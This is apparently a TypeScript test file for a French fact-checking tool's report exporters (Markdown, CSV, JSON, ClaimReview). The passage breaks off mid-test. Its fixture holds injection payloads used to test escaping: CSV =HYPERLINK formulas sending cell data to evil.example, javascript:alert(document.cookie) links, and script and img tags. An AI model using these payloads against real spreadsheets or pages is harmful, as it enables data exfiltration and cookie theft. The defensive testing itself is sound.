// Behaviour of the four report builders on one hostile-but-realistic fixture: French typography,
// Markdown/HTML injection attempts in user text, a source URL with parentheses and spaces, and a
// CSV formula. The fixture lives here because the reports test folder only holds test files.
import { describe, expect, it } from 'vitest';
import {
  CSV_COLUMNS,
  RATINGS,
  encodeLinkDestination,
  escapeMarkdownText,
  neutralizeCsvCell,
  toClaimReview,
  toCsv,
  toJson,
  toMarkdown,
  validateClaimReview,
  CSV_YES,
  type ClaimReview,
  type Rating,
  type ReportAgreement,
  type ReportClaim,
  type ReportData,
} from '@/lib/reports';

const PAREN_URL = 'https://archives.example.org/rapports/chômage (version finale) 2024.pdf';
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Voir la source")';
const APPROVER_FORMULA = '=HYPERLINK("http://evil.example/?a="&B1,"Approuvé")';
const INJECTION_RATIONALE = [
  'Baisse de 2,8 % selon l’Insee, pas 3 %.',
  'Voir [click](javascript:alert(1)) et <script>alert(1)</script>',
  '# heading',
  '',
  '- pas une liste',
  '1. pas une liste numérotée',
  '**pas gras** _ni italique_ ![pas une image](https://evil.example/x.png)',
].join('\n');

function fixture(): ReportData {
  return {
    article: {
      id: 'art_1',
      title: 'Le « pacte » de l’OTAN #1 : [décryptage]',
      language: 'fr',
      sourceUrl: 'https://news.example.fr/monde/pacte',
      publisher: 'Le Quotidien',
      partial: true,
      sentenceCount: 12,
    },
    organization: 'Cellule vérif’',
    factCheckUrl: 'https://factdesk.example.org/articles/art_1',
    generatedAt: '2025-03-04T09:30:00.000Z',
    claims: [
      {
        sentenceId: 'sen_1',
        index: 0,
        text: 'Le ministre a déclaré : « Le chômage a baissé de 3 % en un an ».',
        rating: 'mostly_true',
        rationale: INJECTION_RATIONALE,
        reviewer: { name: 'Marie *Curie*' },
        // Written one day, approved the next: reports date the verdict by its approval.
        reviewedAt: '2025-03-02T16:00:00.000Z',
        approver: { name: 'Jean [Dupont]' },
        approvedAt: '2025-03-03T23:30:00.000Z',
        resolution: false,
        sources: [
          {
            url: PAREN_URL,
            title: 'Taux de chômage [T4 2024]',
            publisher: 'Insee',
            publishedAt: '2025-02-14',
            excerpt: 'Le taux de chômage\nest de 7,3 %.',
          },
          {
            url: 'https://example.org/sans-titre',
            title: null,
            publisher: null,
            publishedAt: null,
            excerpt: null,
          },
        ],
      },
      {
        sentenceId: 'sen_5',
        index: 4,
        text: FORMULA,
        rating: 'unverifiable',
        rationale: FORMULA,
        reviewer: { name: '@Paul' },
        reviewedAt: '2025-03-04T08:00:00.000Z',
        approver: { name: APPROVER_FORMULA },
        approvedAt: '2025-03-04T08:30:00.000Z',
        resolution: false,
        sources: [
          {
            url: 'javascript:alert(document.cookie)',
            title: 'Lien piégé',
            publisher: null,
            publishedAt: null,
            excerpt: null,
          },
        ],
      },
      {
        sentenceId: 'sen_8',
        index: 7,
        text: 'Bonjour à toutes et à tous.',
        rating: 'not_a_claim',
        rationale: 'Formule de politesse.',
        // An editor settled a disagreement: she is both author and approver.
        reviewer: { name: 'Léa' },
        reviewedAt: '2025-03-04T08:05:00.000Z',
        approver: { name: 'Léa' },
        approvedAt: '2025-03-04T08:05:00.000Z',
        resolution: true,
        sources: [
          {
            url: 'https://example.org/guide',
            title: 'Guide',
            publisher: null,
            publishedAt: null,
            excerpt: null,
          },
        ],
      },
    ],
  };
}

function withArticle(patch: Partial<ReportData['article']>, data = fixture()): ReportData {
  return { ...data, article: { ...data.article, ...patch } };
}

/** The fixture reduced to its first claim, patched (e.g. another approver). */
function withFirstClaim(patch: Partial<ReportClaim>, data = fixture()): ReportData {
  return { ...data, claims: [{ ...data.claims[0], ...patch }] };
}

const AGREEMENT: ReportAgreement = {
  alpha: 0.7412,
  percentAgreement: 0.78,
  ratedSentences: 11,
  disputed: ['sen_1', 'sen_5'],
};

function claim(rating: Rating, index: number): ReportClaim {
  return {
    sentenceId: `sen_${index}`,
    index,
    text: `Affirmation ${index}.`,
    rating,
    rationale: 'Parce que.',
    reviewer: { name: 'Léa' },
    reviewedAt: '2025-03-04T08:05:00.000Z',
    approver: { name: 'Hugo' },
    approvedAt: '2025-03-04T09:00:00.000Z',
    resolution: false,
    sources: [
      {
        url: 'https://example.org',
        title: null,
        publisher: null,
        publishedAt: null,
        excerpt: null,
      },
    ],
  };
}

// ---------------------------------------------------------------------------------------------
// Markdown
// ---------------------------------------------------------------------------------------------

describe('toMarkdown', () => {
  const md = toMarkdown(fixture());
  const lines = md.split('\n');
  const section = (n: number) => {
    const start = lines.indexOf(`## Phrase ${n}`);
    const next = lines.findIndex((line, i) => i > start && line.startsWith('## '));
    return lines.slice(start, next === -1 ? undefined : next);
  };

  it('renders the title, the metadata block and one section per claim', () => {
    expect(lines[0]).toBe('# Le « pacte » de l’OTAN \\#1 : \\[décryptage\\]');
    expect(md).toContain('- Rapport généré le 4 mars 2025');
    expect(md).toContain('- Équipe : Cellule vérif’');
    expect(md).toContain(
      '- Article original : [https://news.example.fr/monde/pacte](https://news.example.fr/monde/pacte)',
    );
    expect(md).toContain('- Éditeur : Le Quotidien');
    expect(md).toContain('- Article partiel (paywall)');
    expect(md).toContain('- 3 affirmations vérifiées sur 12 phrases');
    // The only headings are the ones the builder writes: user text cannot add any.
    expect(lines.filter((line) => /^#{1,6}(\s|$)/.test(line))).toEqual([
      lines[0],
      '## Phrase 1',
      '## Phrase 5',
      '## Phrase 8',
    ]);
    expect(md.endsWith('\n')).toBe(true);
  });

  it('quotes the sentence and shows the verdict label', () => {
    expect(section(1)).toContain(
      '> Le ministre a déclaré : « Le chômage a baissé de 3 % en un an ».',
    );
    expect(section(1)).toContain('Verdict : **Plutôt vrai**');
    expect(section(5)).toContain('Verdict : **Invérifiable**');
    expect(section(8)).toContain('Verdict : **Pas une affirmation vérifiable**');
  });

  it('escapes user text so it cannot create links, HTML, headings, lists or emphasis', () => {
    expect(md).not.toContain('<script>');
    expect(md).not.toMatch(/(^|[^\\])</m);
    expect(md).not.toContain('](javascript:');
    expect(md).not.toMatch(/(^|[^\\])\[click/m);
    expect(md).toContain('\\[click\\]\\(javascript:alert\\(1\\)\\)');
    expect(md).toContain('\\<script\\>alert\\(1\\)\\</script\\>');
    expect(md).toContain('\\*\\*pas gras\\*\\* \\_ni italique\\_ \\!\\[pas une image\\]');
    expect(section(1)).toEqual(
      // (a trailing backslash is the hard line break that keeps the author's line breaks)
      expect.arrayContaining([
        '\\# heading',
        '\\- pas une liste\\',
        '1\\. pas une liste numérotée\\',
      ]),
    );
    expect(md).toContain(
      '*Vérifié par Marie \\*Curie\\*, approuvé par Jean \\[Dupont\\] le 3 mars 2025*',
    );
  });

  it('keeps a multi-line rationale inside its section, with its line breaks', () => {
    const rationale = section(1);
    const first = rationale.indexOf('Baisse de 2,8 % selon l’Insee, pas 3 %.\\');
    expect(first).toBeGreaterThan(0);
    expect(rationale.slice(first, first + 6)).toEqual([
      'Baisse de 2,8 % selon l’Insee, pas 3 %.\\',
      'Voir \\[click\\]\\(javascript:alert\\(1\\)\\) et \\<script\\>alert\\(1\\)\\</script\\>\\',
      '\\# heading',
      '',
      '\\- pas une liste\\',
      '1\\. pas une liste numérotée\\',
    ]);
    expect(rationale.indexOf('Sources :')).toBeGreaterThan(first);
  });

  it('lists sources as links with encoded targets, publisher, date and excerpt', () => {
    const target =
      'https://archives.example.org/rapports/chômage%20%28version%20finale%29%202024.pdf';
    expect(section(1)).toContain(
      `- [Taux de chômage \\[T4 2024\\]](${target}) — Insee, 14 février 2025`,
    );
    // The excerpt is indented so it stays in its list item.
    expect(section(1)).toEqual(
      expect.arrayContaining(['  « Le taux de chômage\\', '  est de 7,3 %. »']),
    );
    // Without a title, the URL is the link text.
    expect(section(1)).toContain(
      '- [https://example.org/sans-titre](https://example.org/sans-titre)',
    );
  });

  it('never turns a non-http(s) source URL into a link', () => {
    expect(section(5)).toContain('- Lien piégé');
    expect(md).not.toContain('(javascript:alert(document');
  });

  it('neutralises a formula-looking sentence without altering it', () => {
    expect(section(5)).toContain(`> ${escapeMarkdownText(FORMULA)}`);
    expect(section(5)).toContain(
      `*Vérifié par @Paul, approuvé par ${escapeMarkdownText(APPROVER_FORMULA)} le 4 mars 2025*`,
    );
    expect(escapeMarkdownText(APPROVER_FORMULA)).toBe(
      '\\=HYPERLINK\\("http://evil.example/?a="\\&B1,"Approuvé"\\)',
    );
  });

  it('uses English labels when asked, or when the article is in English', () => {
    const en = toMarkdown(fixture(), { lang: 'en' });
    expect(en).toContain('- Report generated on March 4, 2025');
    expect(en).toContain('- Partial article (paywall)');
    expect(en).toContain('- 3 verified claims out of 12 sentences');
    expect(en).toContain('## Sentence 5');
    expect(en).toContain('Verdict: **Unverifiable**');
    expect(en).toContain('Verdict: **Mostly true**');
    expect(en).toContain('Sources:');
    expect(en).toContain(
      '*Checked by Marie \\*Curie\\*, approved by Jean \\[Dupont\\] on March 3, 2025*',
    );
    expect(en).toContain('*Settled by Léa on March 4, 2025*');
    expect(en).toContain('  “Le taux de chômage\\');
    expect(en).not.toContain('Invérifiable');

    const british = toMarkdown(withArticle({ language: 'en-GB' }));
    expect(british).toContain('Report generated on 4 March 2025');
    expect(british).toContain('Verdict: **Unverifiable**');
  });

  it.each([
    ['de', 'Rapport généré le 4 mars 2025'],
    ['pas une langue', 'Rapport généré le 4 mars 2025'],
    ['fr-CA', 'Rapport généré le 4 mars 2025'],
  ])('falls back to French for language %j', (lang, expected) => {
    expect(toMarkdown(fixture(), { lang })).toContain(expected);
  });

  it('prints date-times in the asked time zone but never shifts bare dates', () => {
    const paris = toMarkdown(fixture(), { timeZone: 'Europe/Paris' });
    expect(paris).toContain(
      '*Vérifié par Marie \\*Curie\\*, approuvé par Jean \\[Dupont\\] le 4 mars 2025*',
    );
    const losAngeles = toMarkdown(fixture(), { timeZone: 'America/Los_Angeles' });
    expect(losAngeles).toContain('— Insee, 14 février 2025');
  });

  it('says so explicitly when nothing is verified yet', () => {
    const empty = toMarkdown({ ...withArticle({ partial: false }), claims: [] });
    expect(empty).toContain("Aucune affirmation vérifiée pour l'instant.");
    expect(empty).toContain('- 0 affirmation vérifiée sur 12 phrases');
    expect(empty).not.toContain('paywall');
    expect(empty).not.toContain('## ');
    expect(toMarkdown({ ...fixture(), claims: [] }, { lang: 'en' })).toContain(
      '- 0 verified claims out of 12 sentences',
    );
  });

  it('agrees in number and omits unknown metadata', () => {
    const data = withArticle({ sentenceCount: 1, sourceUrl: null, publisher: null });
    const single = toMarkdown({ ...data, claims: [data.claims[0]] });
    expect(single).toContain('- 1 affirmation vérifiée sur 1 phrase');
    expect(single).not.toContain('Article original');
    expect(single).not.toContain('Éditeur');
  });

  describe('signature', () => {
    const signatureOf = (md: string) =>
      md.split('\n').filter((line) => /^\*(Vérifié|Checked|Tranché|Settled) /.test(line));

    it.each<[string, Partial<ReportClaim>, string]>([
      ['fr', {}, '*Vérifié par Marie \\*Curie\\*, approuvé par Jean \\[Dupont\\] le 3 mars 2025*'],
      ['fr', { approver: null }, '*Vérifié par Marie \\*Curie\\*, approuvé le 3 mars 2025*'],
      [
        'fr',
        { approver: { name: ' \n ' } },
        '*Vérifié par Marie \\*Curie\\*, approuvé le 3 mars 2025*',
      ],
      [
        'fr',
        { resolution: true, approver: { name: 'Marie *Curie*' } },
        '*Tranché par Marie \\*Curie\\* le 3 mars 2025*',
      ],
      ['en', {}, '*Checked by Marie \\*Curie\\*, approved by Jean \\[Dupont\\] on March 3, 2025*'],
      ['en', { approver: null }, '*Checked by Marie \\*Curie\\*, approved on March 3, 2025*'],
      [
        'en',
        { resolution: true, approver: { name: 'Marie *Curie*' } },
        '*Settled by Marie \\*Curie\\* on March 3, 2025*',
      ],
      // A resolution whose editor account is gone is still signed by its author.
      [
        'en',
        { resolution: true, approver: null },
        '*Settled by Marie \\*Curie\\* on March 3, 2025*',
      ],
      // Settled by a party to the dispute (the team allowed it): the report says so.
      [
        'fr',
        { resolution: true, settledByParty: true, approver: { name: 'Marie *Curie*' } },
        '*Tranché par Marie \\*Curie\\* le 3 mars 2025* — *tranché par une partie au désaccord*',
      ],
      [
        'fr',
        { settledByParty: true },
        '*Vérifié par Marie \\*Curie\\*, approuvé par Jean \\[Dupont\\] le 3 mars 2025* — *tranché par une partie au désaccord*',
      ],
      [
        'en',
        { resolution: true, settledByParty: true, approver: { name: 'Marie *Curie*' } },
        '*Settled by Marie \\*Curie\\* on March 3, 2025* — *settled by a party to the dispute*',
      ],
      [
        'fr',
        { settledByParty: false },
        '*Vérifié par Marie \\*Curie\\*, approuvé par Jean \\[Dupont\\] le 3 mars 2025*',
      ],
    ])('in %s with %j: %s', (lang, patch, expected) => {
      expect(signatureOf(toMarkdown(withFirstClaim(patch), { lang }))).toEqual([expected]);
    });

    it('is dated by the approval, not by the last edit', () => {
      const md = toMarkdown(
        withFirstClaim({
          reviewedAt: '2025-01-10T10:00:00.000Z',
          approvedAt: '2025-02-20T10:00:00.000Z',
        }),
      );
      expect(signatureOf(md)).toEqual([
        '*Vérifié par Marie \\*Curie\\*, approuvé par Jean \\[Dupont\\] le 20 février 2025*',
      ]);
      expect(md).not.toContain('10 janvier');
    });

    it('escapes the approver name like any user text', () => {
      const md = toMarkdown(
        withFirstClaim({ approver: { name: '<img src=x> [a](javascript:b) **c**\n# d' } }),
      );
      expect(signatureOf(md)).toEqual([
        '*Vérifié par Marie \\*Curie\\*, approuvé par \\<img src=x\\> \\[a\\]\\(javascript:b\\) ' +
          '\\*\\*c\\*\\* \\# d le 3 mars 2025*',
      ]);
    });
  });

  describe('agreement', () => {
    // French percentages take a (narrow) no-break space before "%"; compare with plain spaces.
    const plain = (text: string) => text.replace(/[\u00a0\u202f]/g, ' ');
    /** The header list: the lines starting with "- " before the first blank line after the title. */
    const headerOf = (md: string) => {
      const lines = md.split('\n');
      const end = lines.indexOf('', 2);
      return lines.slice(2, end).map(plain);
    };

    it.each<[string, ReportAgreement, string[]]>([
      [
        'fr',
        AGREEMENT,
        [
          '- Accord entre vérificateurs : α = 0,74 (accord brut 78 %) sur 11 phrases',
          '- Phrases en litige : 2',
        ],
      ],
      [
        'en',
        AGREEMENT,
        [
          '- Inter-rater agreement: α = 0.74 (raw agreement 78%) over 11 sentences',
          '- Disputed sentences: 2',
        ],
      ],
      [
        'fr',
        { alpha: null, percentAgreement: 1, ratedSentences: 1, disputed: [] },
        ['- Accord entre vérificateurs : α non calculable (accord brut 100 %) sur 1 phrase'],
      ],
      [
        'en',
        { alpha: null, percentAgreement: 1, ratedSentences: 1, disputed: [] },
        ['- Inter-rater agreement: α not computable (raw agreement 100%) over 1 sentence'],
      ],
      [
        'en',
        { alpha: null, percentAgreement: null, ratedSentences: 0, disputed: [] },
        ['- Inter-rater agreement: α not computable over 0 sentences'],
      ],
      [
        'fr',
        { alpha: 1, percentAgreement: 1, ratedSentences: 0, disputed: [] },
        ['- Accord entre vérificateurs : α = 1,00 (accord brut 100 %) sur 0 phrase'],
      ],
      [
        'fr',
        { alpha: -0.2, percentAgreement: 0.3333, ratedSentences: 1234, disputed: ['sen_2'] },
        [
          '- Accord entre vérificateurs : α = -0,20 (accord brut 33 %) sur 1 234 phrases',
          '- Phrases en litige : 1',
        ],
      ],
      [
        'en',
        { alpha: -0.2, percentAgreement: 0.3333, ratedSentences: 1234, disputed: ['sen_2'] },
        [
          '- Inter-rater agreement: α = -0.20 (raw agreement 33%) over 1,234 sentences',
          '- Disputed sentences: 1',
        ],
      ],
    ])('in %s for %j', (lang, agreement, expected) => {
      const header = headerOf(toMarkdown({ ...fixture(), agreement }, { lang }));
      // Right after the claim count, at the end of the header list.
      const summary = header.findIndex((line) =>
        /^- 3 (affirmations vérifiées|verified claims)/.test(line),
      );
      expect(summary).toBeGreaterThan(0);
      expect(header.slice(summary + 1)).toEqual(expected);
    });

    it('keeps the percent sign on the same line as its number in French', () => {
      expect(toMarkdown({ ...fixture(), agreement: AGREEMENT })).toMatch(/78[\u00a0\u202f]%/);
    });

    it.each(['fr', 'en'])('adds no line without agreement data (%s)', (lang) => {
      const md = toMarkdown(fixture(), { lang });
      expect(md).not.toMatch(/α|Accord entre|litige|Inter-rater|Disputed/);
      expect(headerOf(md).at(-1)).toMatch(/^- 3 (affirmations vérifiées|verified claims)/);
    });
  });

  it.each([
    ['# titre', '\\# titre'],
    ['- item', '\\- item'],
    ['+ item', '\\+ item'],
    ['=====', '\\====='],
    ['12. item', '12\\. item'],
    ['2024 fut une année', '2024 fut une année'],
    ['> citation', '\\> citation'],
    ['**gras** et _italique_', '\\*\\*gras\\*\\* et \\_italique\\_'],
    ['[lien](https://x.test)', '\\[lien\\]\\(https://x.test\\)'],
    ['![img](x.png)', '\\!\\[img\\]\\(x.png\\)'],
    ['<b>html</b>', '\\<b\\>html\\</b\\>'],
    ['&lt;script&gt;', '\\&lt;script\\&gt;'],
    ['`code`', '\\`code\\`'],
    ['a | b', 'a \\| b'],
    ['~~barré~~', '\\~\\~barré\\~\\~'],
    ['anti\\slash', 'anti\\\\slash'],
    ['  ligne 1\n   ligne 2  ', 'ligne 1 ligne 2'],
    ['L’« été »', 'L’« été »'],
  ])('escapeMarkdownText(%j) → %j', (input, expected) => {
    expect(escapeMarkdownText(input)).toBe(expected);
  });

  it.each([
    ['https://a.test/p (1).pdf', 'https://a.test/p%20%281%29.pdf'],
    ['https://a.test/<x>', 'https://a.test/%3Cx%3E'],
    ['https://a.test/a\\b', 'https://a.test/a%5Cb'],
    ['https://a.test/a\tb\nc', 'https://a.test/a%09b%0Ac'],
    ['https://a.test/déjà?q=1&r=%20', 'https://a.test/déjà?q=1&r=%20'],
  ])('encodeLinkDestination(%j) → %j', (input, expected) => {
    expect(encodeLinkDestination(input)).toBe(expected);
  });
});

// ---------------------------------------------------------------------------------------------
// CSV
// ---------------------------------------------------------------------------------------------

// csv-parse is not installed: a minimal RFC 4180 reader (quoted fields, doubled quotes, CRLF or
// LF records, line breaks inside quotes) is enough to check the output round-trips.
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endRow = () => {
    row.push(field);
    rows.push(row);
    row = [];
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') {
        quoted = false;
      } else {
        field += char;
      }
    } else if (char === '"') {
      quoted = true;
    } else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      endRow();
      i++;
    } else if (char === '\n') {
      endRow();
    } else {
      field += char;
    }
  }
  if (quoted) throw new Error('Unterminated quoted field');
  if (field !== '' || row.length > 0) endRow();
  return rows;
}

describe('toCsv', () => {
  const csv = toCsv(fixture());
  const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/, ''));
  const cell = (row: string[], column: (typeof CSV_COLUMNS)[number]) =>
    row[CSV_COLUMNS.indexOf(column)];

  it('starts with a UTF-8 BOM and uses CRLF records', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.split('\uFEFF').length).toBe(2);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('parses back to a header and one row per claim, all with the same columns', () => {
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(3);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
  });

  it('fills every column', () => {
    const [first, second] = rows;
    expect(cell(first, 'sentence_number')).toBe('1');
    expect(cell(first, 'sentence')).toBe(fixture().claims[0].text);
    expect(cell(first, 'rating')).toBe('mostly_true');
    expect(cell(first, 'rating_label')).toBe('Plutôt vrai');
    // Multi-line user text stays in one cell, unchanged.
    expect(cell(first, 'rationale')).toBe(INJECTION_RATIONALE);
    expect(cell(first, 'reviewer')).toBe('Marie *Curie*');
    expect(cell(first, 'reviewed_at')).toBe('2025-03-02T16:00:00.000Z');
    expect(cell(first, 'approver')).toBe('Jean [Dupont]');
    expect(cell(first, 'approved_at')).toBe('2025-03-03T23:30:00.000Z');
    expect(cell(first, 'resolution')).toBe('');
    expect(cell(first, 'source_urls')).toBe(`${PAREN_URL} | https://example.org/sans-titre`);
    expect(cell(first, 'source_titles')).toBe(
      'Taux de chômage [T4 2024] | https://example.org/sans-titre',
    );
    expect(cell(first, 'article_title')).toBe('Le « pacte » de l’OTAN #1 : [décryptage]');
    expect(cell(first, 'article_url')).toBe('https://news.example.fr/monde/pacte');
    expect(cell(second, 'sentence_number')).toBe('5');
    expect(cell(second, 'rating_label')).toBe('Invérifiable');
    expect(rows.map((row) => cell(row, 'sentence_number'))).toEqual(['1', '5', '8']);
  });

  it('neutralises formula-looking cells with a leading apostrophe', () => {
    const [, second] = rows;
    expect(cell(second, 'sentence')).toBe(`'${FORMULA}`);
    expect(cell(second, 'rationale')).toBe(`'${FORMULA}`);
    expect(cell(second, 'reviewer')).toBe("'@Paul");
    expect(cell(second, 'approver')).toBe(`'${APPROVER_FORMULA}`);
    for (const row of rows) {
      for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('labels ratings in the article language and leaves an unknown article URL empty', () => {
    const [, row] = parseCsv(toCsv(withArticle({ language: 'en', sourceUrl: null })).slice(1));
    expect(cell(row, 'rating_label')).toBe('Mostly true');
    expect(cell(row, 'article_url')).toBe('');
  });

  it('puts the approval columns right after the reviewer columns', () => {
    const start = CSV_COLUMNS.indexOf('reviewer');
    expect(CSV_COLUMNS.slice(start, start + 5)).toEqual([
      'reviewer',
      'reviewed_at',
      'approver',
      'approved_at',
      'resolution',
    ]);
    const [, , third] = rows;
    expect(cell(third, 'approver')).toBe('Léa');
    expect(cell(third, 'resolution')).toBe(CSV_YES);
    expect(CSV_YES).toBe('yes');
  });

  it.each<[string, Partial<ReportClaim>, Partial<Record<(typeof CSV_COLUMNS)[number], string>>]>([
    ['an approver', {}, { approver: 'Jean [Dupont]', resolution: '' }],
    ['an unknown approver', { approver: null }, { approver: '', resolution: '' }],
    [
      'a settlement by a party to the dispute',
      { resolution: true, settledByParty: true },
      { resolution: 'yes', settled_by_party: 'yes' },
    ],
    ['no party settlement', {}, { settled_by_party: '' }],
    [
      'the submission date-time as reviewed_at, apart from the approval',
      { reviewedAt: '2025-03-01T09:15:00.000Z', approvedAt: '2025-03-03T23:30:00.000Z' },
      { reviewed_at: '2025-03-01T09:15:00.000Z', approved_at: '2025-03-03T23:30:00.000Z' },
    ],
    [
      'a resolution',
      { resolution: true, approver: { name: 'Marie *Curie*' } },
      { reviewer: 'Marie *Curie*', approver: 'Marie *Curie*', resolution: 'yes' },
    ],
    [
      'a formula as approver name',
      { approver: { name: APPROVER_FORMULA } },
      { approver: `'${APPROVER_FORMULA}` },
    ],
    [
      'a HYPERLINK approver name',
      { approver: { name: '=HYPERLINK("https://evil.example","clic")' } },
      { approver: `'=HYPERLINK("https://evil.example","clic")` },
    ],
    ['a plus-prefixed approver name', { approver: { name: '+Jean' } }, { approver: "'+Jean" }],
    ['a tab-prefixed approver name', { approver: { name: '\t=1+1' } }, { approver: "'\t=1+1" }],
    [
      'the approval date-time',
      { approvedAt: '2025-03-05T10:00:00+01:00' },
      { approved_at: '2025-03-05T10:00:00+01:00', reviewed_at: '2025-03-02T16:00:00.000Z' },
    ],
  ])('writes %s', (_name, patch, expected) => {
    const [, row] = parseCsv(toCsv(withFirstClaim(patch)).replace(/^\uFEFF/, ''));
    expect(row).toHaveLength(CSV_COLUMNS.length);
    for (const [column, value] of Object.entries(expected)) {
      expect(cell(row, column as (typeof CSV_COLUMNS)[number])).toBe(value);
    }
  });

  it('writes only the header when there is no claim', () => {
    expect(parseCsv(toCsv({ ...fixture(), claims: [] }).slice(1))).toEqual([[...CSV_COLUMNS]]);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
    ['-5 % sur un an', "'-5 % sur un an"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\0=1+1', "'\0=1+1"],
    ['＝1+1', "'＝1+1"],
    ['a = b', 'a = b'],
    ['Vrai', 'Vrai'],
    ['', ''],
  ])('neutralizeCsvCell(%j) → %j', (input, expected) => {
    expect(neutralizeCsvCell(input)).toBe(expected);
  });
});

// ---------------------------------------------------------------------------------------------
// JSON
// ---------------------------------------------------------------------------------------------

describe('toJson', () => {
  it('summarises the claims by rating, with every rating present', () => {
    const report = toJson(fixture());
    expect(report.summary).toEqual({
      sentenceCount: 12,
      verifiedCount: 3,
      byRating: {
        true: 0,
        mostly_true: 1,
        misleading: 0,
        false: 0,
        unverifiable: 1,
        not_a_claim: 1,
      },
    });
    expect(Object.keys(report.summary.byRating)).toEqual([...RATINGS]);
  });

  it('carries the article, organization, date and claims, and survives JSON', () => {
    const data = fixture();
    const report = toJson(data);
    expect(report.article).toEqual(data.article);
    expect(report.organization).toBe('Cellule vérif’');
    expect(report.generatedAt).toBe(data.generatedAt);
    expect(report.claims).toEqual(data.claims);
    expect(JSON.parse(JSON.stringify(report))).toEqual(report);
  });

  it('does not share objects with the input', () => {
    const data = fixture();
    const report = toJson(data);
    report.article.title = 'changé';
    report.claims[0].sources[0].title = 'changé';
    report.claims[0].reviewer.name = 'changé';
    expect(data).toEqual(fixture());
  });

  it.each<[string, Partial<ReportClaim>]>([
    ['an approver', {}],
    ['an unknown approver', { approver: null }],
    ['a resolution', { resolution: true, approver: { name: 'Marie *Curie*' } }],
  ])('carries the approval of a claim with %s', (_name, patch) => {
    const data = withFirstClaim(patch);
    const [json] = toJson(data).claims;
    const source = data.claims[0];
    expect(json.reviewer).toEqual(source.reviewer);
    expect(json.approver).toEqual(source.approver);
    expect(json.approvedAt).toBe(source.approvedAt);
    expect(json.resolution).toBe(source.resolution);
    expect(json.reviewedAt).toBe(source.reviewedAt);
    expect(JSON.parse(JSON.stringify(json))).toMatchObject({
      approver: source.approver,
      approvedAt: source.approvedAt,
      resolution: source.resolution,
    });
  });

  it.each<[string, ReportAgreement | undefined, ReportAgreement | null]>([
    ['present', AGREEMENT, AGREEMENT],
    [
      'without alpha',
      { alpha: null, percentAgreement: null, ratedSentences: 0, disputed: [] },
      { alpha: null, percentAgreement: null, ratedSentences: 0, disputed: [] },
    ],
    ['absent', undefined, null],
  ])('carries the agreement when %s', (_name, agreement, expected) => {
    const report = toJson({ ...fixture(), agreement });
    expect(report.agreement).toEqual(expected);
    // null, not a missing key, so consumers can tell "not computed" from an old format.
    expect(JSON.parse(JSON.stringify(report))).toHaveProperty('agreement', expected);
  });

  it('does not share the approver or the agreement with the input', () => {
    const data = { ...fixture(), agreement: { ...AGREEMENT, disputed: [...AGREEMENT.disputed] } };
    const report = toJson(data);
    report.claims[0].approver!.name = 'changé';
    report.agreement!.disputed.push('sen_9');
    report.agreement!.alpha = 0;
    expect(data).toEqual({ ...fixture(), agreement: AGREEMENT });
  });

  it('counts zero everywhere without claims', () => {
    const { summary } = toJson({ ...fixture(), claims: [] });
    expect(summary.verifiedCount).toBe(0);
    expect(Object.values(summary.byRating).every((count) => count === 0)).toBe(true);
  });
});

// ---------------------------------------------------------------------------------------------
// ClaimReview
// ---------------------------------------------------------------------------------------------

describe('toClaimReview', () => {
  const reviews = toClaimReview(fixture());

  it('emits one ClaimReview per claim, except sentences that are not claims', () => {
    expect(reviews).toHaveLength(2);
    expect(reviews.map((review) => review.claimReviewed)).toEqual([
      fixture().claims[0].text,
      FORMULA,
    ]);
  });

  it('follows Google’s fact-check markup', () => {
    expect(reviews[0]).toEqual({
      '@context': 'https://schema.org',
      '@type': 'ClaimReview',
      url: 'https://factdesk.example.org/articles/art_1#sentence-1',
      claimReviewed: 'Le ministre a déclaré : « Le chômage a baissé de 3 % en un an ».',
      datePublished: '2025-03-03',
      author: { '@type': 'Organization', name: 'Cellule vérif’' },
      reviewRating: {
        '@type': 'Rating',
        ratingValue: 4,
        bestRating: 5,
        worstRating: 1,
        alternateName: 'Plutôt vrai',
        name: 'Plutôt vrai',
      },
      itemReviewed: {
        '@type': 'Claim',
        author: { '@type': 'Organization', name: 'Le Quotidien' },
        appearance: [{ '@type': 'CreativeWork', url: 'https://news.example.fr/monde/pacte' }],
      },
      inLanguage: 'fr',
    });
    expect(reviews[1].url).toBe('https://factdesk.example.org/articles/art_1#sentence-5');
  });

  it('gives unverifiable claims a textual verdict but no numeric value', () => {
    expect(reviews[1].reviewRating).toEqual({
      '@type': 'Rating',
      bestRating: 5,
      worstRating: 1,
      alternateName: 'Invérifiable',
      name: 'Invérifiable',
    });
  });

  it.each<[Rating, number | undefined]>([
    ['true', 5],
    ['mostly_true', 4],
    ['misleading', 2],
    ['false', 1],
    ['unverifiable', undefined],
  ])('maps %s to ratingValue %s', (rating, value) => {
    const [review] = toClaimReview({ ...fixture(), claims: [claim(rating, 2)] });
    expect(review.reviewRating.ratingValue).toBe(value);
  });

  it.each<[string, string, string | undefined]>([
    ['2025-03-02T16:00:00.000Z', '2025-03-03T23:30:00.000Z', '2025-03-03'],
    ['2025-03-04T08:00:00.000Z', '2025-03-10T08:00:00.000Z', '2025-03-10'],
    // The day is taken in UTC, like every date of this builder.
    ['2025-03-01T08:00:00.000Z', '2025-03-05T00:30:00+01:00', '2025-03-04'],
    ['2025-03-01T08:00:00.000Z', 'pas une date', undefined],
  ])(
    'dates the review by its approval (written %s, approved %s → %s)',
    (reviewedAt, approvedAt, day) => {
      const [review] = toClaimReview(withFirstClaim({ reviewedAt, approvedAt }));
      expect(review.datePublished).toBe(day);
      if (day === undefined) expect(review).not.toHaveProperty('datePublished');
    },
  );

  it('keeps the organization as author and names no person, even for a resolution', () => {
    for (const patch of [
      {},
